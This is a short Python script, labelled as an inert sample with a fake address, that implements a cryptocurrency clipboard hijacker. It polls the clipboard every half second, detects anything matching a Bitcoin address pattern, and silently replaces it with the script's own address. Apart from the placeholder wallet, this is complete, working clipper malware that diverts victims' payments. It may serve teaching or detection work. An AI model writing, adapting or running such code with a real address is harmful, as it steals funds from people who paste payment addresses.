# INERT SAMPLE: never run. Fake address.
import re, time, pyperclip
BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$")
MINE = "bc1qinertsampleinertsampleinertsample00"
def watch():
    while True:
        text = pyperclip.paste()
        if BTC.match(text):
            pyperclip.copy(MINE)
        time.sleep(0.5)
